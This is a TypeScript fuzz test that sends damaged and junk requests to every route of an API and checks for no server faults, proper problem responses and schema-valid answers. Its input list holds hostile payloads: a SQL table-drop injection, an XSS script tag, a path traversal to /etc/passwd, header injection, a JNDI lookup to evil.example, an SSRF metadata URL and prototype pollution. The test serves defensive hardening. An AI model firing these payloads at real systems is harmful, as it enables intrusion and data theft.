/**
 * Whatever is sent to whichever route: no 5xx, every refusal a problem, every answer on its schema. The requests are
 * valid ones that were damaged, and nonsense. Source: API-3, API-5.
 */
import { assert, describe, it } from "@effect/vitest"
import { Arbitrary, Effect, Layer, Result, Schema } from "effect"
import * as fc from "fast-check"
import { afterAll, beforeAll } from "vitest"
import { parametersOf, type Route } from "../src/endpoint.ts"
import { exampleOf } from "../src/example.ts"
import { codesOf } from "../src/problems.ts"
import { everyRoute } from "../src/routes/index.ts"
import { collector } from "../src/schemas.ts"
import { versionField } from "../src/shape.ts"
import { doorTellings } from "../src/status.ts"
import { postgresServices } from "./postgres.ts"
import { ada, ask, memoryServices, openSchool, type School, tokenFor } from "./school.ts"

type Json = Record<string, unknown>

/** What breaks servers. */
const nasty: ReadonlyArray<unknown> = [
  null,
  true,
  -1,
  0,
  0.1,
  1e308,
  9_007_199_254_740_992,
  -9_007_199_254_740_992,
  "",
  " ",
  "\u0000",
  "a\u0000b",
  "\ud800",
  "\udfff\ud800",
  "\r\nSet-Cookie: a=b",
  "'; drop table util.feature_flags; --",
  "<script>alert(1)</script>",
  "../../../etc/passwd",
  "%00",
  "%2e%2e",
  "${jndi:ldap://evil.example}",
  "{{7*7}}",
  "𝒳".repeat(3000),
  "a".repeat(20_000),
  "2026-02-30T00:00:00Z",
  "+010000-01-01T00:00:00Z",
  "9999-12-31T23:59:59.999Z",
  "Infinity",
  "NaN",
  [],
  [[]],
  {},
  { __proto__: null, constructor: { prototype: {} } },
  [null],
  Array(500).fill("x"),
  "00000000-0000-0000-0000-000000000000",
  "lyc_" + "A".repeat(43),
  "https://169.254.169.254/",
  "javascript:alert(1)",
  "null",
  "undefined"
]

const isObject = (value: unknown): value is Json =>
  value !== null && typeof value === "object" && !Array.isArray(value)

/** A value with one thing in it replaced, removed, added or wrapped, at a place that `at` chooses. */
const damaged = (value: unknown, at: number, by: unknown): unknown => {
  if (Array.isArray(value) && value.length > 0 && at % 3 !== 0) {
    return value.map((one, index) =>
      index === at % value.length ? damaged(one, Math.floor(at / 7), by) : one
    )
  }
  if (!isObject(value) || Object.keys(value).length === 0 || at % 5 === 0) return by
  const keys = Object.keys(value)
  const key = keys[at % keys.length]!
  if (at % 7 === 0) return { ...value, [`extra${at}`]: by }
  if (at % 7 === 1) return Object.fromEntries(Object.entries(value).filter(([name]) => name !== key))
  return { ...value, [key]: damaged(value[key], Math.floor(at / 7), by) }
}

/** JSON in ways that `JSON.stringify` would not write it. */
const rewritten = (text: string, how: number): string => {
  if (how === 1) return text.replace("{", '{"__proto__":{"admin":true},')
  if (how === 2) return text.replace(/"([a-zA-Z]+)":/, '"$1":1,"$1":')
  if (how === 3) return `${text} `.repeat(2)
  if (how === 4) return text.slice(0, Math.max(1, text.length - 3))
  if (how === 5) return "[".repeat(2000) + text
  if (how === 6) return `\ufeff${text}`
  return text
}

interface Attack {
  readonly input: Json
  readonly at: number
  readonly by: unknown
  readonly how: number
  readonly spare: boolean
  readonly headers: Record<string, string>
}

/** Inputs that a use case takes: the example of the document, and generated ones. */
const inputsOf = (route: Route, count: number): ReadonlyArray<Json> => {
  const { input } = route.operation
  const collected = collector()
  const example = exampleOf(collected.inline(input), collected.resolve) as Json
  const encode = Schema.encodeUnknownResult(Schema.toCodecJson(input) as Schema.Codec<unknown, Json>)
  // For some rules no value is found by generating; then the example must do.
  const made = Effect.runSyncExit(
    Arbitrary.sampleEffect(Arbitrary.schema(input), { size: 3, count, seed: 7 })
  )
  const generated = made._tag === "Success" ? made.value : []
  return [
    example,
    ...generated.flatMap((value) =>
      Result.match(encode(value), { onFailure: () => [], onSuccess: (json) => [json] })
    )
  ]
}

const attacks = (inputs: ReadonlyArray<Json>): fc.Arbitrary<Attack> =>
  fc.record({
    input: fc.constantFrom(...inputs),
    at: fc.nat(10_000),
    by: fc.oneof(
      fc.constantFrom(...nasty),
      fc.jsonValue({ maxDepth: 4 }),
      fc.string({ unit: "binary", maxLength: 30 })
    ),
    how: fc.nat(12),
    spare: fc.boolean(),
    headers: fc.record(
      {
        "if-match": fc.constantFrom('"v1"', '"v2"', "*", "v1", '"v0"', '"v999999999"'),
        "idempotency-key": fc.constantFrom("k1", "k2", "k3"),
        "accept-language": fc.constantFrom("fr", "en", "xx;q=9"),
        "if-none-match": fc.constantFrom("*", '"x"')
      },
      { requiredKeys: [] }
    )
  })

/** An attack as a request to a route. */
const requestOf = (route: Route, { at, by, headers, how, input, spare }: Attack) => {
  const broken = spare ? input : damaged(input, at, by)
  const fields: Json = isObject(broken) ? broken : {}
  const inPath = parametersOf(route.endpoint.path)
  const written = (value: unknown) => (typeof value === "string" ? value : (JSON.stringify(value) ?? "x"))
  const path = route.endpoint.path.replaceAll(
    /:(\w+)/g,
    (_, name: string) => encodeURIComponent(written(fields[name]).toWellFormed()) || "x"
  )
  const others = Object.entries(fields).filter(
    ([name]) => !inPath.includes(name) && name !== versionField(route)?.name
  )
  if (route.endpoint.method === "GET") {
    const query = others.flatMap(([name, value]) =>
      [value]
        .flat()
        .slice(0, 50)
        .map((one) => `${encodeURIComponent(name)}=${encodeURIComponent(written(one).toWellFormed())}`)
    )
    return {
      path: query.length === 0 ? path : `${path}?${query.join("&").slice(0, 6000)}`,
      asking: { headers }
    }
  }
  const body = isObject(broken) ? JSON.stringify(Object.fromEntries(others)) : (JSON.stringify(broken) ?? "x")
  return { path, asking: { headers, body: rewritten(body, how) } }
}

describe.each([
  ["memory", memoryServices],
  ["PostgreSQL", Layer.orDie(postgresServices)]
])("every route on %s", (_, services) => {
  let school: School
  let token: string
  beforeAll(async () => {
    // Ada may do nearly everything, so that requests get far.
    school = await openSchool({ limits: { requestMillis: 60_000 } }, services)
    token = await tokenFor(ada)
  })
  afterAll(() => school.close())

  /** How often each status came. */
  const seen = new Map<number, number>()
  const runs = Number(process.env["LYCEUM_FUZZ_RUNS"] ?? 15)

  /** Routes that would end Ada's powers over the others, or refuse all commands. */
  const isFatal = (
    { operation }: Route,
    { json, status }: { readonly status: number; readonly json: Json }
  ) =>
    status < 300 &&
    (operation.name === "users.delete_my_profile" || json["key"] === "emergency_read_only_mode")

  it.each(everyRoute.map((route) => [route.operation.name, route] as const))(
    "%s answers anything with an answer or a problem, and never with a fault (API-3, API-5)",
    async (_, route) => {
      const decode = Schema.decodeUnknownResult(Schema.toCodecJson(route.operation.output), {
        errors: "all",
        onExcessProperty: "error"
      })
      const codes = new Set<unknown>([...Object.keys(doorTellings), ...codesOf(route)])
      await fc.assert(
        fc.asyncProperty(attacks(inputsOf(route, 10)), async (attack) => {
          const { asking, path } = requestOf(route, attack)
          const answer = await ask(school, route.endpoint.method, path, { token, ...asking })
          const { json, status, text, type } = answer
          seen.set(status, (seen.get(status) ?? 0) + 1)
          // The one 503 that is no fault: what is asked for is not part of this school.
          if (json["code"] !== "kernel.unavailable")
            assert.isBelow(
              status,
              500,
              `${path} ${JSON.stringify(asking).slice(0, 500)} → ${text.slice(0, 300)}`
            )
          if (status >= 400) {
            assert.match(type, /^application\/problem\+json/)
            assert.include([...codes], json["code"])
            assert.strictEqual(json["status"], status)
            assert.notMatch(text, /\.ts:|node_modules|SQLSTATE|at Object\./)
          } else if (text !== "") {
            assert.isTrue(Result.isSuccess(decode(json)), `${path} is off its schema: ${text.slice(0, 500)}`)
          }
          if (isFatal(route, answer)) await revive()
        }),
        { numRuns: runs, seed: 11, endOnFailure: true }
      )
    }
  )

  const revive = async () => {
    await ask(school, "POST", "/v1/me/restoration", { token })
    await ask(school, "PATCH", "/v1/flags/emergency_read_only_mode", {
      token,
      body: { enabled: false, reason: "to go on with the test" }
    })
  }

  it("the attacks got far: many were answered, and many refused for many reasons (API-5)", () => {
    for (const status of [200, 400, 404, 422]) assert.isAbove(seen.get(status) ?? 0, 20, `${status}`)
    assert.isAbove(seen.size, 8)
  })

  it("nothing that was sent became a property of all objects (API-5)", () => {
    assert.isUndefined(({} as Json)["admin"])
    assert.isUndefined(([] as unknown as Json)["admin"])
  })
})
